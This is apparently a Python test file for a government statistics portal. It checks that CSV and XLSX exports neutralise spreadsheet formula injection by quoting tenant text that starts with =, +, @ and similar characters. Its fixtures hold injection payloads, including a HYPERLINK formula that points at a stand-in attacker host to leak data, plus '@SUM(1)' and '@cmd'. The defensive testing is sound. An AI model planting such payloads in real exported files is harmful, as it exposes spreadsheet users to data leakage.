"""Hardening (issue 8): a tenant's text that a spreadsheet would run as a formula (=, +, -, @, tab, CR)
comes out of every CSV and XLSX download as text; real numbers, negative ones included, stay numbers.

Before the fix the portal's XLSX stored the title `=HYPERLINK(...)` as a formula cell (data_type 'f')
and every CSV carried `=HYPERLINK(...)` and `@SUM(1)` for the spreadsheet to evaluate."""

import asyncio
import csv
import datetime as dt
import io
from pathlib import Path

import msgspec
from openpyxl import load_workbook

from govstat.platform.db.uow import UnitOfWork
from govstat.platform.security import Scope
from govstat.platform.subsystems.statdb import service
from tests.platform.subsystems.statdb.statdb_support import agency, run_publish_jobs
from tests.support.factories import api_key

TITLE = '=HYPERLINK("http://evil.example/?leak","クリック")'
ITEM = "@SUM(1)"
UNIT = "+81 人"
PARAMS = f"""format: 1
table:
  gov_stat_code: "00200521"
  title: '{TITLE}'
  table_no: "-1+1"
  survey_date: "2020"
data:
  format: csv
  skip_rows: 1
  columns:
    area: {{code: 1, name: 2}}
  values:
    - {{column: 3, cat01: "001"}}
dimensions:
  cat01:
    name: 項目
    items:
      - {{code: "001", name: "{ITEM}", unit: "{UNIT}"}}
  area:
    name: 地域
    items: data
""".encode()
DATA = "地域コード,地域名,値\n00001,=1+1,-5\n00002,普通の地域,12\n".encode()


_table: dict | None = None


async def formula_table() -> dict:
    global _table
    if _table is None:
        owner = await agency()
        async with UnitOfWork(Scope.tenant(owner.id, actor="test")) as uow:
            table = await service.register(uow, service.Upload(PARAMS, DATA, "formula.csv"))
        async with UnitOfWork(Scope.tenant(owner.id, actor="test")) as uow:
            await service.schedule(uow, table.stats_data_id, dt.datetime.now(dt.UTC) + dt.timedelta(seconds=1))
        await asyncio.sleep(1.2)
        await run_publish_jobs()
        _table = {**msgspec.structs.asdict(table), "owner": owner}
    return _table


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _no_formula_text(rows: list[list[str]]) -> None:
    for row in rows:
        for c in row:
            assert not (c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))), (c, row)


def _number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
        return True
    except ValueError:
        return text.strip("-") == ""


async def test_portal_csv_and_xlsx_keep_tenant_text_as_text(client):
    sid = (await formula_table())["stats_data_id"]
    rows = _csv((await client.get(f"/estat/tables/{sid}/download.csv")).content)
    _no_formula_text(rows)
    assert ["'" + ITEM in r for r in rows[1:]] == [True, True] and any("'=1+1" in r for r in rows)
    assert [r[-2] for r in rows[1:]] == ["-5", "12"]  # negative values stay numbers
    x = await client.get(f"/estat/tables/{sid}/download.xlsx")
    book = load_workbook(io.BytesIO(x.content))
    data = list(book["データ"].iter_rows(min_row=2))
    cells = {c.value: c for row in data for c in row}
    for text in (ITEM, "=1+1", UNIT):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert [row[-2].value for row in data] == [-5, 12] and data[0][-2].data_type == "n"
    about = {row[0].value: row[1] for row in book["表情報"].iter_rows()}
    title = about["統計表 / Title"]
    assert title.value == TITLE and title.data_type == "s"  # not a formula cell ('f')
    assert about["表番号 / Table no."].data_type == "s"


async def test_e_stat_api_csv_forms_neutralise_formulas(client):
    from tests.platform.subsystems.estat.estat_support import app_id_for

    sid = (await formula_table())["stats_data_id"]
    app_id = await app_id_for(client)
    data = _csv(
        (
            await client.get(
                "/rest/3.0/app/getSimpleStatsData",
                params={"appId": app_id, "statsDataId": sid, "sectionHeaderFlg": "2"},
            )
        ).content
    )
    _no_formula_text(data)
    assert [r[-2] for r in data[1:]] == ["-5", "12"] and any("'" + ITEM in r for r in data)
    listing = _csv(
        (
            await client.get(
                "/rest/3.0/app/getSimpleStatsList",
                params={"appId": app_id, "statsCode": "00200521", "sectionHeaderFlg": "2"},
            )
        ).content
    )
    _no_formula_text(listing)
    assert any("'" + TITLE in r for r in listing)


async def test_statdb_csv_download_neutralises_formulas(client):
    t = await formula_table()
    r = await client.get(
        f"/api/statdb/tables/{t['stats_data_id']}/csv", headers={"x-api-key": await api_key(t["owner"].id)}
    )
    rows = _csv(r.content)
    _no_formula_text(rows)
    assert any("'=1+1" in row for row in rows) and [row[-2] for row in rows[1:]] == ["-5", "12"]


def test_ops_report_sheets_keep_text_as_text():
    from govstat.ops.reports.files.sheets import Col, Sheet, Table, to_csv
    from govstat.ops.reports.files.xlsx import to_xlsx

    sheets = [
        Sheet("利用機関", [Table("=1+1 表", [Col("名称"), Col("件数", "int")], [['=HYPERLINK("x")', -3], ["@cmd", 4]])])
    ]
    book = load_workbook(io.BytesIO(to_xlsx("報告", sheets)))
    cells = [c for row in book["利用機関"].iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.data_type == "n"] == [-3, 4]
    rows = _csv(to_csv("報告", sheets))
    _no_formula_text(rows)
    assert ['\'=HYPERLINK("x")', "-3"] in rows


def test_every_csv_and_xlsx_writer_goes_through_the_spreadsheet_helper():
    """No module writes CSV or XLSX rows with csv.writer or openpyxl directly (spreadsheet.py does)."""
    root = Path(__file__).resolve().parents[4]
    offenders = []
    for part in ("platform", "gateway", "tenants", "ops"):
        for path in (root / part).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path.name == "spreadsheet.py":
                continue
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path.relative_to(root)))
            if "Workbook(" in text and "spreadsheet import" not in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
